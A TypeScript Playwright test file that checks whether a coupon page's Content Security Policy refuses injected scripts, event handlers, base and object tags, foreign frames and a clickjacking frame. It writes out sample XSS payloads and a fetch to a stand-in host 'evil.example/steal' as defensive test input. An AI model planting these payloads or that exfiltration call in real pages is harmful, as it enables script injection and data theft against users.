/** The HTML's headers (docs/headers.md) at work: injected code does not run, and no other site frames the page. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { eventually, journey, type Visitor } from '../harness';
import { wide } from '../harness/wide';

const { visit, sandbox } = journey();

const PATH = '/receiveCoupon/RC-OPEN';
const hostile = (page: Page): Promise<unknown> => page.evaluate(() => Reflect.get(window, '__hostile'));
const refusals = (visitor: Visitor, directive: string): readonly string[] =>
  visitor.problems().filter((problem) => problem.startsWith(`policy violation: ${directive} `));

/** As if the sanitizer had let it through: markup in the page while it is parsed, and markup added later. */
const INJECTED = {
  script: '<script>window.__hostile = 1</script>',
  handler: '<img src="/nothing.png" onerror="window.__hostile = 1">',
  'foreign script': '<script src="https://evil.example/x.js"></script>',
  base: '<base href="https://evil.example/">',
  plugin: '<object data="/nothing.pdf"></object>',
  frame: '<iframe src="/__sandbox/agreement/service"></iframe>',
} as const;
const DIRECTIVES: Readonly<Record<keyof typeof INJECTED, string>> = {
  script: 'script-src-elem',
  handler: 'script-src-attr',
  'foreign script': 'script-src-elem',
  base: 'base-uri',
  plugin: 'object-src',
  frame: 'frame-src',
};
const kinds = Object.keys(INJECTED) as (keyof typeof INJECTED)[];

wide.each(kinds)('%s in the HTML is refused, and the page works', async (kind) => {
  const visitor = await visit();
  const { page } = visitor;
  await page.route(`**${PATH}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<div id="app">', `${INJECTED[kind]}<div id="app">`);
    await route.fulfill({ response, body });
  });
  await visitor.open(PATH);
  await page.getByRole('button', { name: '点击领取优惠券' }).waitFor();
  await eventually(
    `${kind} is refused`,
    () => Promise.resolve(refusals(visitor, DIRECTIVES[kind])),
    (found) => found.length > 0,
  );
  expect(await hostile(page)).toBeUndefined();
  visitor.expectProblems('policy violation:', 'Content Security Policy', '/nothing.', 'evil.example');
});

test('markup, text and forms added later run nothing and send nothing', async () => {
  const visitor = await visit();
  const { page } = visitor;
  await visitor.open(PATH);
  await page.evaluate(() => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="/nothing.png" onerror="window.__hostile = 1">';
    const script = document.createElement('script');
    script.textContent = 'window.__hostile = 1';
    const form = document.createElement('form');
    form.action = '/__sandbox/reset';
    form.method = 'post';
    document.body.append(box, script, form);
    form.submit();
    // As page code: what a test asks a page to evaluate may do more.
    setTimeout('window.__hostile = 1');
    void fetch('https://evil.example/steal').catch(() => undefined);
  });
  for (const directive of ['script-src-attr', 'script-src-elem', 'form-action', 'connect-src'])
    await eventually(
      `${directive} refuses`,
      () => Promise.resolve(refusals(visitor, directive)),
      (found) => found.length > 0,
    );
  expect(await hostile(page)).toBeUndefined();
  expect(new URL(page.url()).pathname).toBe(PATH);
  visitor.expectProblems('policy violation:', 'Content Security Policy', '/nothing.', 'evil.example');
});

wide('another site cannot embed the pages in a frame; the sandbox’s own lab can', async () => {
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<title>evil</title><iframe src="${sandbox.origin}${PATH}"></iframe>`);
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  try {
    const visitor = await visit();
    const { page } = visitor;
    await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
    await eventually(
      'the frame is refused',
      () => Promise.resolve(visitor.problems()),
      (problems) => problems.some((problem) => problem.includes('frame-ancestors')),
    );
    expect(await page.frameLocator('iframe').locator('#app').count()).toBe(0);
    visitor.expectProblems('frame-ancestors', 'ERR_BLOCKED_BY_RESPONSE');

    const lab = await visit();
    await lab.page.goto('/__sandbox/agreement/service');
    await lab.page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, PATH);
    await lab.page.frameLocator('iframe').getByRole('button', { name: '点击领取优惠券' }).waitFor();
  } finally {
    site.closeAllConnections();
    await new Promise((resolve) => site.close(resolve));
  }
});
